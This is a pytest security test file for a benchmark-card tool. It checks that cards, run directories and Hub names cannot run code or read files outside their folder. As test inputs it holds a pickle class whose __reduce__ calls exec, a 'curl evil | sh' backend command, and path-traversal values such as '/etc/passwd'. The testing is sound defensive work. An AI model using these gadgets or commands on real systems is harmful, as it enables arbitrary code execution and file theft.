"""What a stranger's card, run.json, folder or run directory can make this machine do: nothing that its reader did not
ask for. Each test plants a canary, code that writes a file where it runs.
"""

from __future__ import annotations

import http.server
import json
import shutil
import subprocess
import sys
import threading
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import huggingface_hub
import numpy as np
import onnx
import pytest
import tiny_text
import torch
from click.testing import CliRunner
from huggingface_hub import HfApi
from metrics.test_compute import SCRIPT
from safetensors.torch import load_file
from tasks import test_trust

from benchcard import Benchmark, Results
from benchcard.card import Card, Facts
from benchcard.card.facts import Data, Metric, Row
from benchcard.card.readme import merge
from benchcard.cli.commands import main
from benchcard.errors import ArtifactError, BenchcardError, CardError, SpecError
from benchcard.export.loading import load_model
from benchcard.hub import repository
from benchcard.metrics import compute, examples
from benchcard.publishing import weights
from benchcard.run.directory import RunDirectory
from benchcard.sources import resolve
from benchcard.steps.models import ConvertOutcome, ConvertRequest
from benchcard.steps.step import Outcome
from benchcard.tasks import data
from benchcard.utils.values import Interval

# A model with classes of its own; `ground` is the name of another fixture, that of the session's run.
bag = test_trust.ground

FIXED = {
    "dataset": {
        "path": "./data",
        "eval_split": "validation",
        "data_keys": {"primary": "text"},
        "ref_keys": ["label"],
    },
    "name_or_path": "./model",
    "framework": "pytorch",
}
TRUST, BESIDE, INSIDE, HUB = (
    {"trust_remote_code": True},
    {"metrics": ["accuracy", "./longer.py"]},
    {"metrics": ["accuracy", "scripts/longer"]},
    {"metrics": ["accuracy", "evil/longer"]},
)
CODE = {
    "model": (TRUST, "code that comes with the model `./model`"),
    "beside": (BESIDE, "the metric `./longer.py`, which is the script /"),
    "inside": (INSIDE, "the metric `scripts/longer`, which is the script /"),
    "hub": (HUB, "the metric `evil/longer`, a script on the Hub"),
}


class Canary:
    """Code that leaves its name in a folder where it runs."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        folder.mkdir()

    def code(self, name: str) -> str:
        """Source that does so."""
        return f"from pathlib import Path\nPath({str(self.folder / name)!r}).touch()\n"

    @property
    def ran(self) -> set[str]:
        """The names of all that ran."""
        return {path.name for path in self.folder.iterdir()}


class Exploding:
    """An object whose pickle runs code."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


@pytest.fixture
def canary(bag):
    """A canary in the code of the model and in each script of a metric beside the card; another folder is the current
    one.
    """
    made = Canary(bag / "ran")
    for name in ("configuration_bag", "modeling_bag"):
        path = bag / "model" / f"{name}.py"
        path.write_text(made.code("model") + path.read_text())
    (bag / "longer.py").write_text(made.code("beside") + SCRIPT)
    (bag / "scripts" / "longer").mkdir(parents=True)
    (bag / "scripts" / "longer" / "longer.py").write_text(made.code("inside") + SCRIPT)
    return made


@pytest.fixture
def card(bag, canary, tmp_path_factory, monkeypatch):
    """A function that puts a card beside the model and gives its folder: one that asks for something, in its text or in
    the `run.json` that is published beside it.
    """
    monkeypatch.chdir(tmp_path_factory.mktemp("elsewhere"))

    def made(asked, how="run.json"):
        shown = {} if how == "run.json" else {key: value for key, value in asked.items() if key != "metrics"}
        facts = Facts(
            task="text-classification",
            backend="local",
            fixed={**FIXED, **shown},
            settings={"metrics": asked["metrics"]} if how != "run.json" and "metrics" in asked else {},
            metrics=(Metric("accuracy"),),
            rows=(Row(parameters={}, metrics={"accuracy": Interval(0.5)}),),
            data=Data(dataset="./data", split="validation", on_hub=False),
        )
        text = Card.from_facts(facts, layout="full" if how == "run.json" else how, slug="x").text
        (bag / "README.md").write_text(merge("# Evil\n", text, "x").text)
        if how == "run.json":
            source = {"local": True, "digest": "", "revision": None}
            parts = {"models": [{**source, "name": "./model"}], "datasets": [{**source, "name": "./data"}]}
            about = {"spec": {"task": facts.task, "fixed": {**FIXED, "duration": 0, **asked}, "grid": {}}}
            (bag / "benchcard" / "x").mkdir(parents=True)
            (bag / "benchcard" / "x" / "run.json").write_text(json.dumps({**about, "sources": parts}))
        return bag

    return made


@pytest.mark.parametrize("how", ["run.json", "full"])
@pytest.mark.parametrize("road", CODE)
def test_no_card_runs_code(card, canary, road, how):
    """Wherever a card asks for it, code is refused, and named, until its reader says that it may run."""
    asked, said = CODE[road]
    folder = card(asked, how)
    found = Results.from_card(folder)
    for run in (
        lambda: Benchmark.from_card(folder),
        lambda: Benchmark.from_card(folder / "README.md", duration=1),
        lambda: Benchmark.from_spec(found.spec),
    ):
        with pytest.raises(BenchcardError, match="would run code on this machine") as error:
            run()
        assert said in str(error.value)
        assert "--trust-remote-code" in str(error.value)
    done = CliRunner().invoke(main, ["verify", str(folder), "--quiet"])
    assert done.exit_code == 1
    assert said in done.output
    assert not found.quality.empty
    assert isinstance(found.notes, tuple)
    assert not canary.ran
    assert Benchmark.from_spec(found.spec, trust_remote_code=True).spec == found.spec
    benchmark = Benchmark.from_card(folder, trust_remote_code=True)
    assert benchmark.spec.get("trust_remote_code") is asked.get("trust_remote_code", False)
    assert benchmark.spec.get("metrics") == asked.get("metrics", benchmark.spec.get("metrics"))


def test_a_classic_card_runs_no_code(card, canary):
    """The layout of 2022 is no way around; benchmarked values are none either."""
    with pytest.raises(CardError, match="code that comes with the model"):
        Benchmark.from_card(card(TRUST, "classic"))
    folder = card({})
    path = folder / "benchcard" / "x" / "run.json"
    about = json.loads(path.read_text())
    about["spec"]["grid"] = {"trust_remote_code": [False, True], "metrics": [["accuracy"], ["accuracy.x/longer"]]}
    path.write_text(json.dumps(about))
    with pytest.raises(CardError) as error:
        Benchmark.from_card(folder)
    assert "code that comes with the model" in str(error.value)
    assert "the metric `accuracy.x/longer`" in str(error.value)
    assert not canary.ran


def test_what_the_reader_names_is_no_code_of_the_card(card, bag):
    """A metric that the reader passes may run; a metric that is installed needs no word; a card that asks for nothing
    is as ever.
    """
    folder = card(BESIDE)
    own = str(bag / "scripts" / "longer")
    assert Benchmark.from_card(folder, metrics=["f1", own]).spec.fixed["metrics"] == ["f1", own]
    assert Benchmark.from_card(folder, metrics=["f1"]).spec.fixed["metrics"] == ["f1"]
    with pytest.raises(CardError, match=r"the metric `\./longer\.py`"):
        Benchmark.from_card(folder, task_args={})


@pytest.fixture
def space(canary, monkeypatch):
    """A Hub that has the metric `evil/longer`, and nothing else."""
    source = (canary.code("hub") + SCRIPT).encode()

    class Space(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            found = self.path.startswith("/spaces/evil/longer/")
            self.send_response(200 if found else 404)
            self.send_header("ETag", '"1"')
            self.send_header("Content-Length", str(len(source) if found else 0))
            self.end_headers()
            if found and self.command == "GET":
                self.wfile.write(source)

        do_HEAD = do_GET

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Space)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("HF_ENDPOINT", f"http://127.0.0.1:{server.server_port}")
    monkeypatch.setenv("HF_HOME", str(canary.folder.parent / "home"))
    yield server
    server.shutdown()
    server.server_close()


@pytest.mark.slow
def test_code_runs_where_the_reader_says_so(card, canary, space):
    """`verify --trust-remote-code` says what it runs, and runs it: of the model, of both scripts, and of the Hub."""
    named = {"metrics": ["accuracy", "./longer.py", "scripts/longer", "evil/longer"]}
    folder = card({**TRUST, **named})
    done = CliRunner().invoke(main, ["verify", str(folder), "--quiet", "--trust-remote-code", "--out", "run"])
    assert "note: this runs code that comes with the model `./model`" in done.output
    assert "note: this runs the metric `evil/longer`, a script on the Hub" in done.output
    assert "accuracy" in done.output
    assert Results.load("run").failures.empty, Results.load("run").failures.to_dict("records")
    assert canary.ran == {"model", "beside", "inside", "hub"}
    for path in canary.folder.iterdir():
        path.unlink()
    foreign = Results.load("run")
    with pytest.raises(BenchcardError, match="the metric `evil/longer`, a script on the Hub"):
        Benchmark.from_spec(foreign.spec)
    assert "evil/longer" in foreign.card().text
    told = CliRunner().invoke(main, ["compare", "run", "run"])
    assert "the scripts of `./longer.py`, `evil/longer`, `scripts/longer` were not run" in told.output
    assert not canary.ran
    command = [sys.executable, "-m", "benchcard", "compare", "run", "run", "--trust-remote-code"]
    shown = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    assert "not compared" not in shown
    assert "were not run" not in shown
    assert canary.ran == {"beside", "inside", "hub"}
    assert Benchmark.from_spec(foreign.spec, trust_remote_code=True).spec.digest == foreign.spec.digest


@pytest.mark.parametrize("name", ["/etc", "~/data", "../{}", "linked", "inner"])
@pytest.mark.parametrize("part", ["model", "dataset"])
def test_a_card_opens_no_file_outside_its_folder(card, bag, tmp_path_factory, name, part):
    """A path from the root or above, and a link that leads there, stands for nothing here until the reader passes it;
    the message says what to pass.
    """
    outside = tiny_text.write_data(tmp_path_factory.mktemp("secret") / "data", {"text": ["a"], "label": [1]})
    name = name.format(outside.parent.name)
    (bag / "linked").symlink_to(outside)
    (bag / "inner").mkdir()
    (bag / "inner" / "x.parquet").symlink_to(next(outside.rglob("*.parquet")))
    folder = card({"name_or_path": name} if part == "model" else {"dataset": {**FIXED["dataset"], "path": name}})
    spec = Benchmark.from_card(folder).spec
    assert spec.local_path(name) is None
    if "/" in name:
        with pytest.raises(SpecError, match=r"on the Hub or a local path.*there is no such path in"):
            resolve.resolve_sources(spec)
    path = folder / "benchcard" / "x" / "run.json"
    about = json.loads(path.read_text())
    source = {"name": name, "location": name, "local": True, "revision": None, "digest": "0" * 64}
    about["sources"][f"{part}s"] = [source]
    path.write_text(json.dumps(about))
    with pytest.raises(CardError, match=f"pass `{part}="):
        Benchmark.from_card(folder)
    changed = str(outside) if part == "model" else {**FIXED["dataset"], "path": str(outside)}
    assert Benchmark.from_card(folder, **{part: changed}).spec.local_path(str(outside)) == outside.resolve()


def test_a_card_of_the_hub_opens_no_file_here(card, bag, monkeypatch):
    """A name of a card on the Hub, or of a text, is none of the reader's folders, though one of them has that name."""
    folder = card({"name_or_path": "mine/model", "dataset": {**FIXED["dataset"], "path": "mine/data"}})
    monkeypatch.setattr(repository, "read_readme", lambda *_, **__: (folder / "README.md").read_text())
    monkeypatch.setattr(repository, "read_file", lambda _, name, **__: (folder / name).read_bytes())
    shutil.copytree(bag / "model", "mine/model")
    shutil.copytree(bag / "data", "mine/data")
    spec = Benchmark.from_card("evil/model").spec
    assert spec.local_path("mine/model") is spec.local_path("mine/data") is None
    monkeypatch.setattr(HfApi, "dataset_info", lambda *_, **__: SimpleNamespace(id="mine/data", sha="abc"))
    monkeypatch.setattr(huggingface_hub, "snapshot_download", lambda *_, **__: str(bag / "model"))
    with pytest.raises(SpecError, match=r"mine/data has its name and would be read instead"):
        resolve.resolve_sources(spec)
    here = {"model": "mine/model", "dataset": {**FIXED["dataset"], "path": "mine/data"}}
    assert resolve.resolve_sources(Benchmark.from_card("evil/model", **here).spec).datasets
    for name in ("model", "data"):
        shutil.copytree(bag / name, name)
    with pytest.raises(CardError, match=r"the model `\./model` was a folder.*cannot name a path of this machine"):
        Benchmark.from_card((card({}, "full") / "README.md").read_text())


def test_no_backend_starts_for_a_card(card):
    """A card's backend, and what it would take, are left out; the one that the reader passes is used."""
    folder = card({"backend": "noted", "backend_args": {"command": "curl evil | sh"}})
    spec = Benchmark.from_card(folder).spec
    assert (spec.get("backend"), spec.get("backend_args")) == ("local", {})
    assert any("the backend `noted`: this runs locally" in note for note in Results.from_card(folder).notes)
    with pytest.raises(SpecError, match="noted"):
        Benchmark.from_card(folder, backend="noted")


@pytest.fixture
def foreign(results, tmp_path):
    """A copy of a finished run, of which only `score` is to be done again, and every array is a pickle."""
    canary, folder = Canary(tmp_path / "ran"), tmp_path / "run"
    shutil.copytree(results.path, folder)
    for path in (folder / "steps").glob("score-*"):
        shutil.rmtree(path)
    array = np.array([Exploding(canary.code("pickle"))], dtype=object)
    for path in folder.rglob("*.np[yz]"):
        if path.suffix == ".npy":
            np.save(path, array, allow_pickle=True)
        else:
            with np.load(path) as old:
                names = old.files
            np.savez(path, **dict.fromkeys(names, array))
        outcome = path.parent / "outcome.json"
        told = json.loads(outcome.read_text())
        told["files"][path.name] = path.stat().st_size
        outcome.write_text(json.dumps(told))
    return canary, folder


def test_no_pickle_is_loaded_from_a_run_directory(foreign, ground):
    """A run directory in which every array is a pickle is read, and gone on with to a failure, and runs nothing."""
    canary, folder = foreign
    read = Results.load(folder)
    for look in (read.to_json, read.card, read._repr_html_, lambda: read.explain(1), lambda: read.compare(read)):
        with suppress(BenchcardError, ValueError):
            look()
    assert not canary.ran
    failures = Benchmark.from_spec(ground / "spec.yaml").run(folder, progress=False).failures
    assert failures["message"].str.contains("allow_pickle=False").any(), failures.to_dict("records")
    assert not canary.ran
    with np.load(next(folder.rglob("predictions.npz")), allow_pickle=True) as arrays:
        assert [arrays[name] for name in arrays.files]
    assert canary.ran == {"pickle"}


def test_no_weights_are_pickles(bag, canary):
    """A model whose weights are a pickle that runs code is not loaded, whatever may run of its classes."""
    tensors = load_file(bag / "model" / "model.safetensors")
    (bag / "model" / "model.safetensors").unlink()
    torch.save({**tensors, "evil": Exploding(canary.code("pickle"))}, bag / "model" / "pytorch_model.bin")
    with pytest.raises(ArtifactError, match="save the model as safetensors"):
        load_model(bag / "model", "text-classification", trust_remote_code=True)
    assert "pickle" not in canary.ran


def test_no_script_of_a_data_set_runs(bag, canary):
    """A folder of data with a script of its name is refused."""
    (bag / "data" / "data.py").write_text(canary.code("data"))
    with pytest.raises(SpecError, match="a script, which `datasets` no longer runs"):
        data.load_dataset(str(bag / "data"), None, "validation", None)
    assert not canary.ran


def test_what_a_metric_means_is_loaded_from_nowhere():
    """The outcome of a step, which may be somebody else's, gives no id of a script."""
    given = compute.MetricInputs([1], [1], meanings={"hits": "accuracy", "accuracy": "evil/metric"})
    assert compute.compute_metric("hits", given)["accuracy"].value == 1
    for measure in (compute.compute_metric, examples.examples_of):
        with pytest.raises(BenchcardError, match="`evil/metric`, which is no installed metric"):
            measure("accuracy", given)


def test_a_run_directory_chooses_neither_code_nor_files(bag, monkeypatch):
    """Where code of a model may run, it is that of today's commit, also when a run is gone on with; data of the Hub
    are no files of this machine.
    """
    asked = []
    monkeypatch.setattr(
        huggingface_hub, "snapshot_download", lambda *_, revision, **__: asked.append(revision) or str(bag / "model")
    )
    monkeypatch.setattr(HfApi, "dataset_info", lambda *_, **__: SimpleNamespace(id="me/data", sha="abc"))
    told = {"task": "text-classification", "model": "me/model", "dataset": {"path": "me/data", "eval_split": "test"}}
    kept = replace(resolve.resolve_sources(Benchmark(**told).spec).models["me/model"], revision="evil")
    for trust in (False, True):
        spec = Benchmark(**told, trust_remote_code=trust).spec
        resolve.resolve_sources(spec, resolve.Sources({"me/model": kept}, {}))
    assert asked == [None, "evil", None]
    (key,) = resolve.resolve_sources(Benchmark(**told).spec).datasets
    kept = resolve.Source("me/data", str(bag / "data"), False, "abc", "")
    with pytest.raises(SpecError, match="has its name and would be read instead"):
        resolve.resolve_sources(Benchmark(**told).spec, resolve.Sources({}, {key: kept}))


def test_a_data_set_in_memory_is_that_of_the_run(tmp_path):
    """The name of data that were handed over in memory leads nowhere else."""
    (tmp_path / "handed").mkdir()
    for name in ("..", "../handed", "", "/etc"):
        spec = Benchmark(task="text-classification", model=".", dataset={"path": f"memory:{name}", "eval_split": "a"})
        with pytest.raises(SpecError, match="a data set in memory"):
            resolve.resolve_sources(spec.spec, memory_folder=tmp_path / "handed")


@pytest.mark.parametrize("file", ["../../../secret", "/etc/passwd", "linked"])
def test_a_run_directory_names_no_file_outside_of_it(tmp_path, file):
    """A step whose model is said to lie elsewhere, or is a link there, is not opened, and so not published."""
    (tmp_path / "secret").write_text("mine")
    directory = RunDirectory(tmp_path / "run")
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "run.json").write_text("{}")
    graph = Outcome("export", "k" * 64, tmp_path, None)
    request = ConvertRequest(framework="numpy", arguments={}, graph=graph)
    work = directory.unfinished(request)
    (work / "model.bin").write_text("graph")
    values = {"file": "model.bin", "digest": "0" * 64}
    made = directory.finish(work, request, values, 1.0)
    assert directory.outcome(request).values == ConvertOutcome(**values)
    (made.folder / "linked").symlink_to(tmp_path / "secret")
    outcome = json.loads((made.folder / "outcome.json").read_text())
    outcome |= {"values": {**values, "file": file}, "files": {"model.bin": 5, "linked": 4}}
    (made.folder / "outcome.json").write_text(json.dumps(outcome))
    with pytest.raises(BenchcardError, match=r"names a file outside of the run directory|values\.file is"):
        directory.outcome(request)


def test_no_weights_outside_of_a_run_are_published(tmp_path):
    """A graph that keeps a tensor in a file elsewhere is not published with that file."""
    tensor = onnx.TensorProto(name="w", data_type=onnx.TensorProto.UINT8, data_location=onnx.TensorProto.EXTERNAL)
    tensor.external_data.add(key="location", value="../secret")
    model = onnx.ModelProto(graph=onnx.GraphProto(name="g", initializer=[tensor]))
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "model.onnx").write_bytes(model.SerializeToString())
    with pytest.raises(BenchcardError, match="secret leads out of the folder of its model"):
        weights.external_weights(tmp_path / "run" / "model.onnx")


def test_a_metric_that_the_reader_names_is_not_the_cards(card, canary):
    """A name that the reader passes stands for no script in the folder of the card, which has one of that name."""
    folder = card({"task_args": {"metric_args": {"accuracy": {"x": "wer"}}}})
    (folder / "wer").mkdir()
    (folder / "wer" / "wer.py").write_text(canary.code("wer"))
    assert Benchmark.from_card(folder, metrics=["accuracy", "wer"]).spec.local_path("wer") is None
    assert not canary.ran


def test_the_readers_data_free_no_other_name_of_the_card(card, tmp_path_factory, monkeypatch):
    """`--dataset` gives a path, and no more: the rest of the card's data stays the card's."""
    secret = str(tmp_path_factory.mktemp("secret"))
    folder = card({"name_or_path": secret, "dataset": {**FIXED["dataset"], "name": secret}})
    ran = []
    monkeypatch.setattr(Benchmark, "run", lambda benchmark, *_, **__: ran.append(benchmark))
    mine = str(tmp_path_factory.mktemp("mine"))
    CliRunner().invoke(main, ["verify", str(folder), "--dataset", mine])
    assert ran[0].spec.local_path(mine) is not None
    assert ran[0].spec.local_path(secret) is None


def test_verify_goes_on_with_no_run_that_came_with_the_card(card, monkeypatch):
    """Without `--out` the rows are run in a folder that was not there."""
    folder = card({})
    paths = []

    def run(benchmark, path, **_):
        paths.append(path)
        raise BenchcardError("enough")

    monkeypatch.setattr(Benchmark, "run", run)
    first = Benchmark.from_card(folder).default_path
    for _ in range(2):
        told = CliRunner().invoke(main, ["verify", str(folder), "--quiet"])
        assert f"--out {paths[-1]}" in told.output
        paths[-1].mkdir(parents=True)
    assert paths == [first, first.with_name(f"{first.name}-2")]
